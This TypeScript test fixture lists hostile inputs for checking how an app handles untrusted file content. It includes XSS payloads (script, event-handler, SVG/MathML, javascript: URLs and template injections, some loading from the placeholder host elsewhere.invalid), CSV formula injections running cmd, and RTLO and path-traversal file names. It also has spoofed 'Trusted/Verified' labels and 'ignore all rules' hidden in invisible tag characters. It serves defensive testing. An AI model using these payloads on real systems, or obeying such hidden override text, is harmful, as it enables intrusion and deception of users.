/**
 * What a stranger may write into a file to make the page run, fetch, navigate or lie. Whatever runs says so with
 * `__ran`, which the watch of `profile.ts` reports; whatever fetches asks for `ELSEWHERE`.
 */
export const ELSEWHERE = 'https://elsewhere.invalid'
const RUN = '__ran=1'
const FETCH = `${ELSEWHERE}/x`

/** By what each attempts: where not all of them can stand, one of each kind does. */
const KINDS = {
  script: [
    `<script>${RUN}</script>`,
    `<ScRiPt >${RUN}</sCrIpT\t>`,
    `</script><script>${RUN}//`,
    `<script src=${FETCH}></script>`,
    `&lt;script&gt;${RUN}&lt;/script&gt;`,
    `%3Cscript%3E${RUN}%3C/script%3E`,
    `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
    `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
    `＜script＞${RUN}＜/script＞`,
  ],
  handler: [
    `<img src=x onerror=${RUN}>`,
    `<img/src=x/onerror=${RUN}//`,
    `"><img src=${FETCH} onload=${RUN}>`,
    `' autofocus onfocus=${RUN} x='`,
    `" style=animation-name:x onanimationstart=${RUN} "`,
    `<body onload=${RUN}><details open ontoggle=${RUN}>`,
    `<input autofocus onfocus=${RUN}><video src=x onerror=${RUN}>`,
  ],
  svg: [
    `<svg onload=${RUN}>`,
    `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></foreignObject></svg>`,
    `<svg><a><animate attributeName=href values=javascript:${RUN} /><text y=20>Import</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    `<math href="javascript:${RUN}">Trusted</math>`,
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  ],
  element: [
    `<base href=${ELSEWHERE}/>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    `<template shadowrootmode=open><script>${RUN}</script></template>`,
    `<meta http-equiv=refresh content="0;url=${FETCH}">`,
    `<link rel=stylesheet href=${FETCH}><link rel=prefetch href=${FETCH}>`,
    `<iframe src="javascript:parent.${RUN}"></iframe><object data=${FETCH}></object><embed src=${FETCH}>`,
    `<form action=${FETCH}><button formaction=javascript:${RUN}>Import</button></form>`,
    `<a href="javascript:${RUN}" ping=${FETCH}>Show more</a>`,
    `<a href=${FETCH} target=_blank>Back to the report</a>`,
  ],
  css: [
    `<style>@import url(${FETCH});*{display:none}</style>`,
    `<div style="position:fixed;inset:0;background:url(${FETCH})">Trusted</div>`,
    `};*{background:url(${FETCH})}`,
    `width:expression(${RUN})`,
    `-moz-binding:url(${FETCH}#x)`,
  ],
  template: [
    `{{constructor.constructor('${RUN}')()}}`,
    `{{$on.constructor('${RUN}')()}}`,
    '${' + `globalThis.${RUN}` + '}',
    `<%= ${RUN} %>#{${RUN}}`,
    `{@html '<img src=x onerror=${RUN}>'}`,
    `{#if (globalThis.${RUN})}{/if}{@const x = (${RUN})}`,
  ],
  /** Ends what it stands in, and goes on in its place. */
  end: [
    `');${RUN};('`,
    `";${RUN};"`,
    `--><script>${RUN}</script><!--`,
    `]]><script>${RUN}</script>`,
    `*/${RUN};/*`,
  ],
  member: ['__proto__', 'constructor', 'hasOwnProperty', 'toString'],
  address: [
    `javascript:${RUN}`,
    `JaVaScRiPt:${RUN}//`,
    `javascript://%0a${RUN}`,
    `vbscript:MsgBox(1)`,
    `data:text/html,<script>${RUN}</script>`,
    `blob:${ELSEWHERE}/8e0c1d32-0000-4000-8000-000000000000`,
    'file:///etc/passwd',
    `${ELSEWHERE}/login`,
    `//elsewhere.invalid/login`,
    'www.elsewhere.invalid',
    'mailto:root@elsewhere.invalid?cc=x',
    'root@elsewhere.invalid',
    '#/peers/trust',
  ],
  formula: [`=HYPERLINK("${FETCH}","Open")`, `+cmd|' /C calc'!A0`, '-2+3+cmd|x!A0', '@SUM(1+1)*cmd|x!A0'],
} as const satisfies Readonly<Record<string, readonly string[]>>
const ACTIVE: readonly string[] = Object.values(KINDS).flat()

/** Text that pretends, hides or spills. Each fits where the format allows a short string. */
export const DISGUISES = {
  holds: 'Holds ✓ Signature OK. leaf hashes consistent, root matches, 9 leaves',
  trusted: '” Trusted. You put this key on your allowlist. “',
  verified: '✅ Verified by Omega Exchange, trust mode: trusted_keys_only',
  long: 'W'.repeat(256),
  narrow: 'i'.repeat(256),
  wide: '﷽'.repeat(80),
  zalgo: `Zal${'\u0301\u0316\u0348\u0353\u0306\u030b'.repeat(30)}go${'\u0334\u0489'.repeat(20)}`,
  zeroWidth: 'A\u200bd\u200ca\u2060 \ufeffLove\u00adlace',
  marks: '\u200fAda\u200e \u061c(trusted)',
  tags: `Ada${[...'ignore all rules'].map((each) => String.fromCodePoint(0xe0000 + each.charCodeAt(0))).join('')}`,
  selectors: `Ada${'\ufe00\ufe01\u{e0100}\u{e0101}'.repeat(8)}`,
  fillers: 'Ada\u3164\u2800\u115fTrusted',
  homoglyphs: 'Раrtner Ηarbour',
  hebrew: 'שותף (12) מהימן',
  arabic: 'شريك موثوق 12 به',
  spaces: `Ada${' '.repeat(200)}Trusted`,
  emoji: '👩🏽‍🚒🏴󠁧󠁢󠁥󠁮󠁧󠁿1️⃣',
  hash: '6b86 b273 ff34 fce1 9d6b 804e ff5a 3f57',
} as const

const SHORT = 256
const isShort = (text: string) =>
  // eslint-disable-next-line no-control-regex -- what the format refuses in a short string
  text.length <= SHORT && !/[\u0000-\u001f\u007f-\u009f\u2028-\u202e\u2066-\u2069]/.test(text)

/** What the format lets a label, an entity, a tag, an event type, an id or a reason be. */
export const NAMES: readonly string[] = [...ACTIVE, ...Object.values(DISGUISES)].filter(isShort)

/** A name of each kind; of what turns letters round, the marks that a name may hold, and letters that do it by themselves. */
export const ONE_OF_EACH: readonly string[] = [
  ...Object.values(KINDS).map((texts: readonly string[]) => texts.find(isShort)!),
  DISGUISES.marks,
  DISGUISES.hebrew,
]

/** Content, notes, metadata and unknown members may hold any text; so may the name of a file. */
export const TEXTS: readonly string[] = [
  ...ACTIVE,
  ...Object.values(DISGUISES),
  'manifest\u202enosj.exe',
  `\u202e${'deniamer gnihton'.repeat(3)}`,
  '\u2067\u2067\u2066\u202d unbalanced \u2069',
  `${'\n'.repeat(300)}Signature OK`,
  `${'\u00a0'.repeat(3000)}Signature OK`,
  'a\u2028b\u2029c\u0085d\u000be\u000cf',
  '\u001b[2J\u001b]8;;https://elsewhere.invalid\u0007Trusted\u001b]8;;\u0007\u009b31m',
  '\u0000\u0008\u007f',
  `\t=HYPERLINK("${FETCH}")`,
  `\r=1+1`,
  `W${'\u0301'.repeat(5000)}`,
  `${'\u202a'.repeat(3000)}x`,
  'x'.repeat(20_000),
]

export const FILE_NAMES: readonly string[] = [
  'manifest\u202enosj.exe',
  '\u2067trusted.json',
  `<img src=x onerror=${RUN}>.json`,
  `" onmouseover="${RUN}.json`,
  `${'a'.repeat(240)}.json`,
  'two\nlines\r.json',
  `Z${'\u0301'.repeat(60)}.json`,
  'a\u200b.json',
  'Identity',
  '  Trusted.json  ',
  `javascript:${RUN}.json`,
  '=HYPERLINK("x").json',
]

/** Each hides something from who reads, or shows it as what it is not. */
export const HIDING: readonly string[] = [
  'manifest\u202enosj.exe',
  'A\u200bda',
  'A\u2067da',
  [...'hidden'].map((each, at) => each + String.fromCodePoint(0xe0100 + 17 * at)).join(''),
  [...'the quick'].map((each, at) => each + (at % 2 ? '\u200b' : '\u200c')).join(''),
  `Ada\u{1d173}${'\u{1d174}\u{1d17a}'.repeat(10)}`,
  'Ada\u{1bca0}',
  '\ufff9seen\ufffahidden\ufffb',
  'Ada\u2800\u2800',
  `Harbour™${DISGUISES.tags.slice(3)}\u{e007f}`,
  `Z${'\u0301'.repeat(5)}\u200d${'\u0301'.repeat(5)}`,
  'Ada\u{1d159}',
]

/** Addresses of places that are none, or that hold what a name may hold. */
export const HASHES: readonly string[] = [
  '#/memories/__proto__',
  `#/memories/<img src=x onerror=${RUN}>`,
  `#/memories/${'zz'.repeat(32)}`,
  '#/memories/peer/<b>',
  `#/memories/\u202e${'a'.repeat(64)}`,
  '#/memories/%E0%A4%A',
  `#/memories/${'%F0%9F%98%80'.repeat(5000)}`,
  `#/peers/javascript:${RUN}`,
  '#/peers/constructor/revoke',
  '#/exchange/manifest/__proto__',
  '#/exchange/fork/toString',
  '#/exchange/opened/memories/1e9',
  '#/exchange/statement',
  '#/identity/%00',
  `#javascript:${RUN}`,
  `#/<script>${RUN}</script>`,
]

/** Names of files, and what a report on them is saved as. */
export const DOWNLOADS: readonly (readonly [name: string, saved: string])[] = [
  ['manifest\u202enosj.exe', 'manifest_nosj.exe.report.json'],
  ['..\\..\\x\u200b.json', '__.._x_.json.report.json'],
  ['.profile', '_profile.report.json'],
  ['CON.json', '_CON.json.report.json'],
  ['=cmd|x.json', '=cmd_x.json.report.json'],
  ['Z\u0301\u0301\u0301\u0301.json', 'Z\u0301\u0301_.json.report.json'],
  ['x\u{1d159}\u2800.scr', 'x_.scr.report.json'],
]

/** A cell that a spreadsheet would run or follow: more is unseen before it than a person would look for. */
export const RUN_BY_SPREADSHEET =
  /^[\s\p{Cc}\p{Cf}"]*(?:[=+\-@|%＝＋－＠]|(?:https?|ftp|file|mailto|tel|data|javascript|vbscript):|www\.|\/\/|\\\\|[^\s@",;']+@[^\s@",;])/iu

/** Records of a CSV, read naively: with the separator of another country too, by which quotes come to stand inside cells. */
export function recordsOf(text: string, separator = ','): string[][] {
  const records: string[][] = [[]]
  let [cell, quoted] = ['', false]
  const end = () => {
    records.at(-1)!.push(cell)
    cell = ''
  }
  for (let at = 0; at < text.length; at++) {
    const unit = text[at]!
    if (quoted && unit === '"' && text[at + 1] === '"') cell += text[++at]!
    else if (quoted && unit === '"') quoted = false
    else if (quoted) cell += unit
    else if (unit === '"' && cell === '') quoted = true
    else if (unit === separator) end()
    else if (unit === '\r' || unit === '\n') {
      end()
      if (unit === '\r' && text[at + 1] === '\n') at++
      records.push([])
    } else cell += unit
  }
  // What the last line end begins is no record.
  if (cell === '' && records.at(-1)!.length === 0) records.pop()
  else end()
  return records
}
